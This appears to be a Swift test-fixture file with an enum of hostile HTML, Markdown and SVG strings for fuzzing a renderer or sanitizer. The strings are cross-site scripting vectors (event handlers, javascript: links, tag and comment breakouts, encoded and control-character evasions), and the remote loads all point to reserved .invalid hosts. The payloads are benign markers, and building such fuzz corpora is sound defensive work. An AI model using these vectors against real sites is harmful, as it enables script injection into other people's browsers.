/// What somebody would write who wants a script to run in the reader's browser, or a request to leave the page.
///
/// Whatever of it runs sets `window.fuzzed`, opens a dialog, or asks for an address that ends in `.invalid`.
enum Hostile {
  private static let script = "window.fuzzed=1;alert(1)"

  static let html: [String] = [
    "<script>\(script)</script>", "<ScRiPt src=//fuzz.invalid/x.js></ScRiPt>", "<img src=x onerror=\"\(script)\">",
    "<img src=//fuzz.invalid/i.png>", "<!-- /> --!><img src=x onerror=\"\(script)\">",
    "<!--><img src=x onerror=\"\(script)\">-->",
    "<!---><svg onload=\"\(script)\">", "<!-- a --><script>\(script)</script><!-- -->", "<svg onload=\"\(script)\">",
    "<svg><script>\(script)</script></svg>", "<svg><a xlink:href=\"javascript:\(script)\"><text>x</text></a></svg>",
    "<math><mtext></p><img src=x onerror=\"\(script)\">", "<details open ontoggle=\"\(script)\">x</details>",
    "<details ontoggle=\(script) open>", "<summary onclick=\"\(script)\">x</summary>", "<br onmouseover=\"\(script)\">",
    "<kbd/onclick=\(script)>", "<sub\nonclick=\"\(script)\">x</sub>", "<ruby a=\"><img src=x onerror=\(script)>\">",
    "<sup\u{C}onclick=\(script)>",
    "<iframe src=\"javascript:\(script)\"></iframe>", "<iframe srcdoc=\"<script>\(script)</script>\"></iframe>",
    "<object data=\"//fuzz.invalid/\"></object>", "<embed src=\"//fuzz.invalid/\">",
    "<link rel=stylesheet href=//fuzz.invalid/s.css>",
    "<meta http-equiv=refresh content=\"0;url=//fuzz.invalid/\">", "<base href=//fuzz.invalid/>",
    "<form action=//fuzz.invalid/><input autofocus onfocus=\"\(script)\">",
    "<style>@import '//fuzz.invalid/s.css';</style>", "<p style=\"background:url(//fuzz.invalid/b.png)\">",
    "<template><img src=x onerror=\"\(script)\">",
    "</article><script>\(script)</script>", "</pre></code><img src=x onerror=\"\(script)\">",
    "]]><script>\(script)</script>",
    "<?xml-stylesheet href=\"//fuzz.invalid/\"?>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"//fuzz.invalid/\">]>&y;",
    "<noscript><p title=\"</noscript><img src=x onerror=\(script)>\">",
    "<a href=\"javascript:\(script)\">x</a>", "<details/open/ontoggle=\(script)>", "<rt\u{0}onclick=\(script)>",
    "<br<script>\(script)</script>>", "<<script>\(script)//<</script>",
  ]

  static let markdown: [String] = [
    "[x](javascript:\(script))", "[x](JaVaScRiPt:\(script))", "[x](java&#10;script:\(script))",
    "[x](<javascript:\(script)>)", "[x](data:text/html,<script>\(script)</script>)",
    "[x](vbscript:x)", "[x](&#x6A;avascript:\(script))", "[x][j]\n\n[j]: javascript:\(script)\n\n",
    "<javascript:\(script)>", "![x](//fuzz.invalid/i.png)",
    "![x](x\" onerror=\"\(script))", "[x](https://e.invalid/\" onclick=\"\(script))",
    "[x](https://e.org/ \"\\\" onclick=\\\"\(script)\")", "[x](https://e.org/'onclick='\(script))",
    "[x](#\"onclick=\"\(script))", "[1](#! \"\\\"><img src=x onerror=\(script)>\")",
    "[1](#! '\"><script>\(script)</script>')", "[1](#@a \"<img src=x onerror=\(script)>\")",
    "https://e.org/\"onmouseover=\"\(script)", "www.e.org/<script>\(script)</script>",
    "`<img src=x onerror=\(script)>`", "&lt;img src=x onerror=\(script)&gt;",
    "<!-- #tab-x \"><img src=x onerror=\(script)> -->\n\n| a |\n| - |\n| <img src=x onerror=\(script)> |\n",
    "$<img src=x onerror=\(script)>$", "$$\\href{javascript:\(script)}{x}$$",
    "```swift show #x\" onclick=\"\(script) caption=\"<img src=x onerror=\(script)>\"\nx\n```\n",
    "```swift run caption=\"</div><script>\(script)</script>\"\nprint(1)\n```\n```output\n<script>\(script)</script>\n```\n",
    "```swift run as=markdown\nprint(1)\n```\n```output\n<img src=x onerror=\(script)> [x](javascript:\(script)) <!-- --!><svg onload=\(script)>\n```\n",
    "```swift run as=markdown\nprint(1)\n```\n```output\n| a |\n| - |\n| <!-- > --><script>\(script)</script> |\n```\n",
    "```dot #d caption=\"<svg onload=\(script)>\"\ndigraph { a [label=\"<script>\(script)</script>\"] }\n```\n",
    "```\"><script>\(script)</script>\nx\n```\n",
    "```js onclick=\(script)\n</code><img src=x onerror=\(script)>\n```\n",
    "## <img src=x onerror=\(script)>\n\n", "## \" onclick=\"\(script)\n\n", "> [!NOTE]\n> <svg onload=\(script)>\n\n",
    "> [!<img src=x onerror=\(script)>]\n\n",
    "[^a\"onclick=\"\(script)]\n\n[^a\"onclick=\"\(script)]: <img src=x onerror=\(script)>\n\n",
    "| 用語 |\n| - |\n| \"><img src=x onerror=\(script)> |\n\n", "~~<s onclick=\(script)>~~",
    "- [ ] <img src=x onerror=\(script)>\n",
    "title: \"</title><script>\(script)</script>\"\n", "short: '\"><img src=x onerror=\(script)>'\n",
    "subtitle: </style><script>\(script)</script>\n", "\u{202E}<script>\(script)</script>",
    "</script><script>\(script)</script>", "*/\n</style><script>\(script)</script>",
  ]

  /// Pieces of SVG.
  static let svg: [String] =
    html + [
      "<script>\(script)</script>",
      "<foreignObject><img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"\(script)\"/></foreignObject>",
      "<image href=\"//fuzz.invalid/i.png\"/>", "<use href=\"//fuzz.invalid/i.svg#a\"/>",
      "<use xlink:href=\"data:image/svg+xml,<svg id='a' onload='\(script)'/>#a\"/>",
      "<a href=\"javascript:\(script)\"><rect width=\"9\" height=\"9\"/></a>",
      "<a HREF=\"javascript:\(script)\"><text>x</text></a>",
      "<a xlink:href=\"java&#x09;script:\(script)\"><text>x</text></a>",
      "<animate attributeName=\"href\" values=\"javascript:\(script)\"/>",
      "<set attributeName=\"onmouseover\" to=\"\(script)\"/>", "<rect onclick=\"\(script)\"/>",
      "<g onload=\"\(script)\"/>",
      "<rect fill=\"url(//fuzz.invalid/p#a)\"/>", "<rect mask=\"URL(https://fuzz.invalid/m)\"/>",
      "<rect style=\"fill:url(https://fuzz.invalid/f)\"/>", "<rect filter='url(\"//fuzz.invalid/f\")'/>",
      "<text font-family='\"/><img src=x onerror=\(script)>'>x</text>",
      "<rect width='\"/><img src=x onerror=\(script)>' height=\"1\"/>", "<rect id='\"><img src=x onerror=\(script)>'/>",
      "<path d='\"><script>\(script)</script>'/>",
      "<style>@import url(//fuzz.invalid/s.css);</style>", "<style>*{background:url(//fuzz.invalid/)}</style>",
      "<title><img src=x onerror=\(script)></title>", "<desc>]]><script>\(script)</script></desc>",
      "<![CDATA[<img src=x onerror=\(script)>]]>", "<?php ?>", "<!DOCTYPE svg [<!ENTITY x \"<script>\">]>&x;",
      "<handler>\(script)</handler>", "<listener event=\"load\"/>", "<iframe src=\"javascript:\(script)\"/>",
      "<rect fill=\"&quot; onclick=&quot;\(script)\"/>",
      "<g><g><g>", "</g>", "</svg><script>\(script)</script>", "<svg>", "&#60;script>", "&lt;script&gt;\(script)",
      "<rect a=b c='d' e=f>", "<rect \"/>", "<rect fill=\"red\" fill=\"blue\"/>", "xmlns=\"x\"",
      "viewBox=\"0 0 1e999 NaN\"",
    ]
}
